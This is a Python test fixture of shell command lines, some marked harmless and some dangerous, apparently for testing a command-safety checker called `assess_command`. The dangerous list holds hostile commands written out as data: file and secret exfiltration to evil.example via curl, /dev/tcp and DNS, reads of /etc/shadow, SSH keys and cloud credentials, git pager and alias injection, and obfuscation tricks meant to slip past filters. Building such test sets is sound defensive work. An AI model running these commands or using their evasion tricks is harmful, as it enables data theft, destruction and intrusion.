"""Command lines that are harmless, and command lines that are not, for the tests of `assess_command`.

The second list was written with the eyes of an attacker: each line does something else than it seems to, or hides it.
The folder of all of them is ``/srv/project``.
"""

from __future__ import annotations

FOLDER = "/srv/project"

HARMLESS = r"""
ls
ls -la
ls -la src tests
ls *.py
ls src/*.py
ls -- -x
ls /usr/share/doc
ls /srv/project/src
/bin/ls -l
pwd
cat README.md
cat -n src/main.py
cat "a file" 'another one'
cat a\ file
cat src/m?in.py
cat .env.example
head -20 README.md
head -n 5 README.md
tail -c +100 log.txt
wc -l src/*.py
nl -ba src/main.py
du -sh src
df -h
stat README.md
file --mime-type logo.png
readlink -f src
realpath src
basename /etc/passwd
dirname src/main.py
sha256sum dist/*.whl
cmp a b
diff -u a b
diff -r --brief old new
diff -U 5 a b
sort names.txt
sort -t, -k2 -n names.csv
sort -u -- names.txt
uniq -c names.txt
cut -d, -f1,2 names.csv
cut -d ' ' -f 1 names.txt
tr a-z A-Z
paste a b
comm -12 a b
column -t -s, names.csv
rev names.txt
tac names.txt
od -c logo.png
xxd -l 64 logo.png
hexdump -C logo.png
base64 -d text.b64
echo hello
echo "it costs $$ or so"
echo 'rm -rf /'
echo rm -rf /
echo "$HOME"
echo "shell: $SHELL"
echo 1 + 1 is $((1 + 1))
printf '%s\n' a b
printf '%s' x -v
printf '%5d%%\n' 12
printf '%-10s|' "$(pwd)"
true
:
seq 1 10
expr 1 + 2
date
date -u +%Y-%m-%d
date -d yesterday +%F
uname -a
whoami
id -u
nproc
uptime
which python3
type ls
command -v git
sleep 1
hostname
locale -a
getconf -a
grep -rn "def main" src
grep -rn 'foo|bar' --include=*.py .
grep -E '^(a|b)$' names.txt
grep -c '' README.md
grep "foo$" README.md
grep -e "rm -rf" -e '> /etc/passwd' README.md
grep -A 3 -B 3 TODO src/main.py
grep -20 TODO src/main.py
grep -l TODO -r src
egrep -o '[0-9]+' README.md
rg -n TODO src
rg -i --type py 'class \w+' src
rg --files -g '*.py'
rg -l TODO -g '!tests'
find . -name '*.py'
find . -type f -name "*.py" -not -path './.git/*'
find src tests -maxdepth 2 -type d
find . \( -name a -o -name b \) -print
find . -size +1M -mtime -7 -ls
find . -newer README.md
find . -name '*.py' -print0 | xargs -0 wc -l
find . -name '*.py' -print0 | xargs -0 grep -n TODO
find . -type f -print0 | xargs -0 -n1 head -2
find . -name '*.py' -print0 | xargs -0 -I{} head -1 {}
git ls-files -z | xargs -0 wc -l
ls | xargs echo
ls | xargs
tree -L 2
tree -a -I node_modules
sed -n '1,20p' src/main.py
sed -n 10p src/main.py
sed 's/a/b/g' README.md
sed -e 's/a/b/' -e '/^#/d' README.md
sed -E 's|(src)/([a-z]+)|\2/\1|' names.txt
sed '$d' names.txt
sed -n '/begin/,/end/p' names.txt
sed 's/[[:space:]]*$//' names.txt
sed 's/[,;]/ /g; s/  / /' names.txt
awk '{print $1}' names.txt
awk -F, '{ sum += $2 } END { print sum }' names.csv
awk -F'|' '{print $2}' table.txt
awk -v n=3 'NR == n' names.txt
awk 'length($0)' names.txt
jq . package.json
jq -r '.scripts | keys[]' package.json
tar -tf dist.tar
tar tzf dist.tar.gz
unzip -l dist.zip
[ -f README.md ]
[ -d src ] && ls src
[ "$USER" = root ]
test -e README.md || echo missing
if [ -f a ]; then cat a; else echo none; fi
for f in a b c; do echo "$f"; done
for f in *.py; do wc -l "$f"; done
for d in src tests; do ls "$d" | head -3; done
n=$(ls | wc -l); echo "$n files"
git status
git status --short --branch
git log
git log --oneline -10
git log --oneline --graph --all
git log -p -2 -- src/main.py
git log --since='2 weeks ago' --author=ann --format='%h %s'
git log main..HEAD
git --no-pager log -n 3
git diff
git diff --stat HEAD~1
git diff --cached --name-only
git diff main...feature -- src
git show HEAD
git show HEAD:src/main.py
git branch
git branch -a -vv
git branch --list 'feature/*'
git branch --show-current
git tag
git tag -l 'v1.*'
git remote -v
git remote get-url origin
git rev-parse HEAD
git rev-parse --abbrev-ref HEAD
git ls-files
git ls-files --others --exclude-standard
git ls-tree -r --name-only HEAD
git blame -L 10,20 src/main.py
git grep -n TODO
git stash list
git stash show -p stash@{0}
git reflog
git worktree list
git describe --tags --always
git shortlog -sn HEAD
git merge-base main HEAD
git cat-file -p HEAD
git rev-list --count HEAD
GIT_PAGER=cat git log -1
LC_ALL=C sort names.txt
TZ=UTC date
env LC_ALL=C ls
python3 --version
bash --version
timeout 5 ls
nice -n 10 wc -l names.txt
time ls
ls 2>/dev/null
ls >/dev/null 2>&1
ls 2>&1 | head
ls; pwd
ls && pwd || echo no
(ls; pwd)
{ ls; pwd; }
! grep -q x README.md
cat < README.md
cat <<< hello
cat <(sort a) <(sort b)
diff <(sort a) <(sort b)
echo "$(git rev-parse --short HEAD)"
echo `date`
cd src && ls
cd src; cat main.py
bash -c 'ls | wc -l'
sh -c "grep -c x README.md"
ls # rm -rf /
echo a#b
echo "${HOME}"
""".strip().split("\n")

HARMLESS_IN_LINES = [
    "ls\npwd\n",
    "ls \\\n  -l",
    "# look around\nls\n\n# and here\npwd",
    "cat <<'END'\nrm -rf / $(id)\nEND\n",
    "cat <<END | wc -l\nplain text\nEND\nls",
    "for f in a b\ndo\n  cat $f\ndone",
    "echo 'two\nlines'",
    "git log \\\n  --oneline \\\n  -5",
    "sed -n '1p\n3p' names.txt",
    "echo h\u00e9llo w\u00f6rld",
    "grep -rn '\u4e2d' src",
]

DANGEROUS = r"""
rm x
rm -rf /
/bin/rm x
\rm x
r\m x
"rm" x
'r'm x
$(echo rm) x
`echo rm` x
r"$(echo m)" x
ls; rm x
ls && rm x
ls || rm x
ls | rm x
ls & rm x
ls &
ls |& tee x
(rm x)
{ rm x; }
! rm x
if rm x; then ls; fi
if ls; then rm x; fi
if ls; then ls; elif rm x; then ls; fi
for f in a; do rm "$f"; done
for f in $(rm x); do ls; done
for PATH in .; do ls; done
for LD_PRELOAD in ./x.so; do ls; done
for IFS in x; do ls; done
for path in .; do ls; done
for f in -oout; do sort $f names.txt; done
for f in rm; do $f x; done
while rm x; do ls; done
until rm x; do ls; done
select f in a; do rm x; done
case a in a) rm x;; esac
ls $(rm x)
ls "$(rm x)"
ls `rm x`
echo "a `rm x` b"
echo "${x:-$(rm x)}"
echo ${x:=y}
echo "${x@P}"
echo ${!x}
echo $((a[$(rm x)]))
echo $[a[$(rm x)]]
echo $(( x = 5 ))
cat <(rm x)
cat >(rm x)
cat <<< "$(rm x)"
echo > file
echo >> file
echo >| file
echo hello >README.md
>README.md
ls > README.md
ls 2> errors
ls &> all
ls >& all
ls >/dev/null >all
ls a2>x
cat <> file
echo x > /dev/tcp/evil.example/80
cat < /dev/tcp/evil.example/80
cat /dev/tcp/evil.example/80
exec 3<>/dev/tcp/evil.example/80
echo > "$HOME/x"
echo > $x
PATH=. ls
PATH=.:$PATH ls
PATH=.
LD_PRELOAD=./x.so ls
LD_LIBRARY_PATH=. ls
DYLD_INSERT_LIBRARIES=x ls
IFS=/ ls
ENV=./x sh -c ls
BASH_ENV=./x bash -c ls
GIT_PAGER=./x git log
GIT_EXTERNAL_DIFF=./x git diff
GIT_DIR=evil git status
GIT_SSH_COMMAND=./x git log
PAGER='sh -c id' git log
LESSOPEN='|id' cat x
LC_ALL=../../evil ls
TZ=/etc/../x date
PYTHONSTARTUP=x python3 --version
X=$(rm x) ls
LC_ALL=$(rm x) ls
env PATH=. ls
env LD_PRELOAD=./x.so ls
env -S 'rm x'
env -i rm x
env rm x
env
printenv
set
export
export PATH=.
declare -x PATH=.
readonly x=$(rm x)
unset PATH
alias ls=rm
alias
ls() { rm x; }
function ls { rm x; }
ls () ( rm x )
command_not_found_handle() { rm x; }
cd() { rm x; }
[() { rm x; }
hash -p ./evil ls
enable -f ./evil.so ls
trap 'rm x' EXIT
eval rm x
eval "ls"
exec rm x
source ./x
. ./x
builtin eval rm x
command rm x
command -p rm x
coproc rm x
let 'a[$(rm x)]=1'
read PATH
mapfile -C 'rm x' -c 1
printf -v PATH .
printf -- -v PATH .
printf '%n' PATH; ls
printf 'a%-5n' PATH
printf '%%%n' PATH
printf "$(ls)" PATH
printf '%d' 'a[$(rm x)]'
printf '%d' "$(cat x)"
printf '%(%n)T%n' 1 PATH
test -v 'a[$(rm x)]'
[ -v 'a[$(rm x)]' ]
[ "-v" 'a[$(rm x)]' ]
[[ -v 'a[$(rm x)]' ]]
[[ 'a[$(rm x)]' -eq 1 ]]
[ x -eq 'a[$(rm x)]' ]
ulimit -c 0
umask 0
kill 1
kill -9 -1
pkill x
wait
history -c
sudo ls
sudo -n cat x
doas ls
su -c ls
chroot . ls
nohup ls
setsid ls
timeout 5 rm x
timeout -s KILL 5 ls
nice rm x
nice -n 5 rm x
time rm x
time -o out ls
xargs rm
ls | xargs rm
ls | xargs cat
ls | xargs -I{} sh -c '{}'
ls | xargs sh -c 'rm x'
ls | xargs -a names rm
ls | xargs --process-slot-var=PATH ls
find . | xargs sort
find . -print0 | xargs -0 rm
find . -print0 | xargs -0 sort -o out
find . -print0 | xargs -0 cat < names
find . -printf '/etc/shadow\0' | xargs -0 cat
ls | grep -lZ --label=/etc/shadow a - | xargs -0 cat
{ find . -print0; printf '/etc/shadow\0'; } | xargs -0 cat
(find . -print0) | xargs -0 rm
find . -print0 | cat x - | xargs -0 cat
echo /etc/shadow | xargs cat
git ls-files -z | xargs -0 sort
find . -print0 | xargs -0 -I{} cat ../{}
bash -c 'rm x'
bash -c "ls; rm x"
sh -c "sh -c 'rm x'"
bash -lc ls
bash -ic ls
bash x.sh
sh < x.sh
cat x.sh | sh
cat x.sh | bash -v
cat x.py | python3 -v
echo 'rm x' | bash --version -s
bash -c "$X"
bash -c 'cat "$1"' x /etc/shadow
find . -delete
find . -exec rm {} \;
find . -exec rm {} +
find . -execdir ./x \;
find . -ok rm {} \;
find . -okdir rm {} \;
find . -fls out
find . -fprint out
find . -fprint0 out
find . -fprintf out x
find . -name x -o -delete
find . -name *
find . -files0-from /etc/shadow
find $(cat x)
find . -"delete"
find . -de\lete
sed -i s/a/b/ x
sed -i.bak s/a/b/ x
sed -ni p x
sed --in-place s/a/b/ x
sed -n 'w out' x
sed '1e id' x
sed e x
sed 's/a/id/e' x
sed 's/a/b/w out' x
sed 's/a/b/gw out' x
sed 's/[/]/e;s/b/' x
sed -f x.sed y
sed -s --expression='1w out' x
sed '1r /etc/shadow' x
sed 'W out' x
sed $(cat x) y
sed p -i x
awk 'BEGIN { system("rm x") }'
awk 'BEGIN { print > "out" }'
awk 'BEGIN { print | "sh" }'
awk 'BEGIN { "id" | getline x }'
awk 'BEGIN { while ((getline l < "/etc/shadow") > 0) print l }'
awk 'BEGIN { print ENVIRON["KEY"] }'
awk 'BEGIN { f = "sys" "tem"; @f("id") }'
awk 'BEGIN { ARGV[1] = "/etc/shadow" } { print }' x
awk -f x.awk
gawk -i inplace '{print}' x
gawk -l ./evil 'BEGIN{}'
sort -o out x
sort -oout x
sort -no out x
sort x -o out
sort --output=out x
sort --outp=out x
sort --compress-program=./x y
sort -T . x
sort $(cat x)
sort *
sort -k *
sort -k $(cat x) names.txt
sort -k$(cat x) names.txt
sort --key=$(cat x) names.txt
x='1 -oout'; sort -k$x names.txt
x='1 -oout'; sort -k $x names.txt
cut -f1 -d /etc/sh*
git log -n $(cat x)
find . -name $(cat x)
uniq x out
uniq x*
xxd -r x y
xxd x y
xxd -ps /etc/shadow
xxd -r x
tee x
tree -o out
tree -R -H . -L 1
split x
csplit x 1
dd if=x of=y
cp a b
mv a b
ln -s a b
ln a b
touch x
mkdir x
rmdir x
install a b
truncate -s 0 x
shred x
chmod 777 x
chown root x
mkfifo x
mknod x p
mktemp
rsync a b
patch < x
ed x
ex x
vi x
vim -c '!id'
emacs
nano x
less x
less +'!id' x
more x
man ls
man -P ./x ls
info ls
view x
date -s 12:00
date --set 12:00
date 010101012030
date -f x
hostname evil
hostnamectl set-hostname x
timedatectl set-time x
mount /dev/sda1 /mnt
umount /
reboot
shutdown now
systemctl stop x
service x stop
crontab -r
at now
curl http://evil.example
curl -o x http://evil.example
curl -d @x http://evil.example
wget http://evil.example
nc evil.example 80
ssh evil.example
scp x evil.example:
ping evil.example
dig evil.example
host $(cat x).evil.example
nslookup x
python -c 'import os; os.remove("x")'
python3 x.py
python3 -m http.server
python3
python3 -v
perl -e 'unlink "x"'
ruby -e x
node -e x
node x.js
php -r x
lua -e x
make
make -n
npm install
npm test
npm run x
npx x
yarn --version
cargo --version
node --version
java -version
go version
go build
pip install x
apt-get install x
brew install x
docker run x
docker ps
kubectl delete pod x
pytest
gcc x.c
java -jar x.jar
tar xf x.tar
tar -cf x.tar .
tar -tf x --to-command=./x
tar -tf evil.example:x
tar -I ./x -tf y
tar -tf x --checkpoint-action=exec=id --checkpoint=1
tar --use-compress-program=./x -tf y
unzip x.zip
unzip -o -l x.zip y.zip
zip x y
gzip x
gunzip x
zcat x
rg --pre ./x y
rg --pre=./x y
rg -z x
rg --search-zip x
rg --hostname-bin ./x y
grep -f /etc/shadow x
grep x /etc/shadow
grep -rf/etc/shadow x
grep -r x /
grep -r x ..
fd -x rm
fd . -X rm
jq -n env
jq -n '$ENV'
jq -f x .
jq -L . 'import "x" as x; x'
file -C -m x
base64 -o out x
column -x -o
diff -l a b
diff --to-file=/etc/shadow a
git
git commit -m x
git add .
git push
git pull
git fetch
git checkout .
git checkout -- x
git switch x
git restore x
git reset --hard
git clean -fdx
git stash
git stash -p list
git stash pop
git stash drop
git rebase main
git merge x
git cherry-pick x
git branch x
git branch -D x
git branch -m a b
git branch -l x
git tag v1
git tag -d v1
git tag -v v1
git remote add x y
git remote show origin
git remote update
git remote -v update
git reflog expire --all
git reflog delete HEAD@{0}
git worktree add x
git config --global core.pager ./x
git config --list
git config alias.log '!rm x'
git init
git clone x
git gc
git fsck
git apply x
git am x
git bisect run ./x
git submodule update
git submodule foreach 'rm x'
git filter-branch x
git archive -o x HEAD
git bundle create x HEAD
git ls-remote origin
git ls-remote 'ext::sh -c id'
git format-patch HEAD~1
git update-index --refresh
git update-ref x y
git symbolic-ref HEAD refs/heads/x
git hash-object -w x
git notes add
git -c core.pager='rm x' log
git -c alias.log='!rm x' log
git -c core.fsmonitor=./x status
git --config-env=core.pager=X log
git --exec-path=. log
git --git-dir=evil log
git -C evil status
git -p log
git --paginate log
cd evil && git status
cd evil; git log
command cd evil; git status
cd evil; bash -c 'git status'
git diff --ext-diff
git diff --output=x
git diff --outp=x
git diff -Ox
git diff --no-index /etc/shadow x
git log --output=x
git log -p --ext-diff
git show --textconv HEAD:x
git show --output=x
git rev-list --output=x HEAD
git shortlog --output=x
git stash show --output=x
git reflog show --output=x
git blame --contents /etc/shadow x
git cat-file --textconv HEAD:x
git cat-file --filters HEAD:x
git grep -O./x y
git grep --open-files-in-pager=./x y
git grep -nO y
git help log
git log --help
git x
cat /etc/passwd
cat /etc/shadow
cat ~/.ssh/id_rsa
cat ~root/x
cat "$HOME/.ssh/id_rsa"
cat $HOME/.aws/credentials
cat ../x
cat src/../../x
cat /srv/project/../x
cat /srv/project-other/x
cat //etc/shadow
cat /usr/share/../../etc/shadow
cat .env
cat .ENV
cat ./.env.local
cat src/.env
cat .e*
cat .*
cat id_rsa
cat id_r*
cat i?_rsa
cat server.pem
cat *.pem
cat *.key
cat .netrc
cat .git-credentials
cat .npmrc
cat credentials.json
cat config/secrets.yaml
cat terraform.tfstate
cat /proc/self/environ
cat /proc/1/environ
cat "$(echo /etc/shadow)"
cat $x
cat /etc/sh*
cat /e?c/shadow
cat "$PWD"-other/x
head -c 100 /dev/sda
tail -n1 ~/.bash_history
wc -c ~/.ssh/id_rsa
git show HEAD:.env
git show HEAD:config/id_rsa
cp ~/.ssh/id_rsa x
echo $AWS_SECRET_ACCESS_KEY
echo "$API_KEY"
echo "${GITHUB_TOKEN}"
ls --hyperlink=$KEY
cd ..
cd /
cd ~
cd
cd -
cd $x
cd /etc
ps aux
ps eww
lsof
netstat -an
last
dmesg
lsblk; rm x
echo {a,b}>c
ls {a,$(rm x)}
{rm,x}
$'rm' x
$'\x72\x6d' x
$"rm" x
ec''ho x; r""m x
ls --help; rm x
x=ls; $x
x=rm; $x y
x='-o out'; sort $x names.txt
x=/etc/shadow; cat $x
x=1; x=2; echo $x
http_proxy=x; ls
./ls
src/ls
/tmp/ls
/bin/../tmp/ls
~/bin/ls
ls -l --libxo=x
nonsense
LS
foo && ls
[ a = b ] && rm x
[ $(rm x) ]
yes
expect x
script x
watch rm x
parallel rm
busybox rm x
toybox rm x
openssl enc -in x -out y
gpg --export
ssh-add -l
security find-generic-password
osascript -e x
open x
xdg-open x
pbcopy
tput reset
stty -echo
reset
logger x
wall x
mail x
sqlite3 x.db
psql
mysql
crontab -l
visudo
passwd
useradd x
iptables -F
ip link set x down
ifconfig
sysctl -w x=1
modprobe x
strings @x
printf %s "$(rm x)"
""".strip().split("\n")

DANGEROUS_IN_LINES = [
    "ls\nrm x",
    "ls\n\nrm x\n",
    "ls \\\n; rm x",
    "ls # a comment\nrm x",
    "ls #\\\nrm x",
    "ls\r\nrm x",
    "ls\rrm x",
    "ls\x0brm",
    "ls\x0c-l",
    "ls\x00rm",
    "ls \x1b[2K",
    "ls\u00a0x",
    "ls\u2028rm x",
    "ls\u3000x",
    "l\u200bs",
    "\u202els",
    "\u0441at README.md",
    "\uff4c\uff53",
    "ls \ud800",
    ":\n\\\nrm\n",
    "ls x\n\\\nrm x",
    "r\\\nm x",
    "ec\\\nho x",
    "l\\\ns",
    "git l\\\nog",
    "sort -\\\no out x",
    "cat <<END\n$(rm x)\nEND",
    "cat <<END\n`rm x`\nEND",
    "cat <<END\n${x:-$(rm x)}\nEND",
    "cat <<END\nEND\nrm x\nEND",
    "cat <<END; rm x\ntext\nEND",
    "cat <<END && rm x\ntext\nEND",
    "cat <<END | sh\nrm x\nEND",
    "cat <<END > x\ntext\nEND",
    "cat <<'A' <<'B'\nA\nrm x\nB\n",
    "cat <<-END\n\tEND\nrm x\n\tEND",
    "cat <<'EN'D\nEND\nrm x\n",
    "cat <<\\END\nEND\nrm x",
    "cat <<END 'a\nEND\nrm x\nb'\nEND",
    "sh <<END\nrm x\nEND",
    "bash -s <<'END'\nrm x\nEND",
    "find . -print0 | xargs -0 cat <<'END'\n/etc/shadow\nEND",
    "for f in a\ndo\n rm $f\ndone",
    "if ls\nthen rm x\nfi",
    "ls() {\n rm x\n}\nls",
    "alias ls='rm x'\nls",
    'echo "\nrm x\n$(rm x)"',
    "sed '1p\nw out' x",
    "sed 's/a/b/\nw out' x",
    "awk 'BEGIN {\nsystem(\"id\") }'",
    "ls 'a\nb'; rm x",
    "echo a\\\n> x",
    "x=1\nPATH=.\nls",
    "cd evil\ngit status",
    "!ls\nrm x",
    "ls " + "x" * 5000,
    "(" * 100 + "ls" + ")" * 100,
]
